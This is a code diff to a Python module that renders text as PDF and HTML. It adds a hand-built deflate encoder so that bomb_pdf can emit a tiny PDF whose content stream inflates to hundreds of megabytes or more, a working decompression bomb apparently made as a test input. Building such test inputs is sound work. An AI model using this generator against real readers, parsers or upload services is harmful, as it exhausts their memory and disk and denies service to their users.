@@ -4,7 +4,6 @@ headers and page numbers, lines wrapped by the layout) and a web page (navigatio
 from __future__ import annotations
 
 import html
-import zlib
 from pathlib import Path
 
 STYLE_FONT = "STSong-Light"  # one of the CJK fonts every PDF reader knows (Adobe-GB1), so no font file is needed
@@ -63,9 +62,72 @@ def render_html(text: str, target: Path) -> Path:
     return target
 
 
+class _Bits:
+    """A deflate bit stream: fields least significant bit first, Huffman codes most significant bit first."""
+
+    def __init__(self) -> None:
+        self.value = 0
+        self.length = 0
+
+    def field(self, value: int, width: int) -> None:
+        self.value |= value << self.length
+        self.length += width
+
+    def code(self, code: str) -> None:
+        self.field(int(code[::-1], 2), len(code))
+
+    def to_bytes(self) -> bytes:
+        assert self.length % 8 == 0, self.length
+        return self.value.to_bytes(self.length // 8, "little")
+
+
+REPEATS = (1 << 20) - 1  # copies of 258 bytes in one block: ≡ 3 (mod 4), so that the block fills whole bytes
+
+
+def _spaces_block(repeats: int = REPEATS) -> bytes:
+    """One non-final dynamic-Huffman deflate block that copies the previous byte 258 × `repeats` times.
+
+    Its codes: length 258 (symbol 285) and distance 1 are one bit each, so each copy is two zero bits — what zlib
+    at level 9 makes of a long run, built directly instead of compressing gigabytes."""
+    assert repeats % 4 == 3
+    bits = _Bits()
+    bits.field(0, 1)  # not the final block
+    bits.field(2, 2)  # dynamic Huffman codes
+    bits.field(286 - 257, 5)  # literal/length code lengths given: 0..285
+    bits.field(1 - 1, 5)  # distance code lengths given: 1
+    order = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15)
+    length_lengths = {2: 1, 1: 2, 18: 2}  # the code-length code: "2" is 0, "1" is 10, "18" (zeros) is 11
+    bits.field(18 - 4, 4)  # code-length code lengths given: up to symbol 1, 18th in `order`
+    for symbol in order[:18]:
+        bits.field(length_lengths.get(symbol, 0), 3)
+    codes = {2: "0", 1: "10", 18: "11"}
+    # literal 0: 2 bits; 1..255: none; 256 (end of block): 2 bits; 257..284: none; 285: 1 bit; distance 0: 1 bit
+    for symbol, zeros in ((2, 0), (18, 138), (18, 117), (2, 0), (18, 28), (1, 0), (1, 0)):
+        bits.code(codes[symbol])
+        if zeros:
+            bits.field(zeros - 11, 7)
+    for _ in range(repeats // 4):  # four copies (285 "0", distance "0") per byte of zero bits
+        bits.field(0, 8)
+    bits.field(0, 2 * (repeats % 4))
+    bits.code("11")  # end of block: symbol 256 is "11" (literal 0 is "10", 285 is "0")
+    return bits.to_bytes()
+
+
+def deflated_spaces(expanded: int, repeats: int = REPEATS) -> tuple[bytes, int]:
+    """A zlib stream of at least `expanded` spaces, a few kilobytes per 270 MB, and how many spaces it holds."""
+    blocks = -(-(expanded - 1) // (258 * repeats))
+    count = 1 + blocks * 258 * repeats
+    first = b"\x00\x01\x00\xfe\xff "  # a stored block holding one space, ending on a byte boundary
+    last = b"\x01\x00\x00\xff\xff"  # the final block: stored, empty
+    adler_a = (1 + 32 * count) % 65521  # zlib's Adler-32 of `count` spaces (byte value 32), computed, not summed
+    adler_b = (count + 32 * count * (count + 1) // 2) % 65521
+    body = first + _spaces_block(repeats) * blocks + last
+    return b"\x78\xda" + body + ((adler_b << 16) | adler_a).to_bytes(4, "big"), count
+
+
 def bomb_pdf(expanded: int) -> bytes:
-    """A one-page PDF whose content stream inflates from a few kilobytes to `expanded` bytes."""
-    stream = zlib.compress(b" " * expanded, 9)
+    """A one-page PDF whose content stream inflates from a few kilobytes to at least `expanded` bytes."""
+    stream, _ = deflated_spaces(expanded)
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
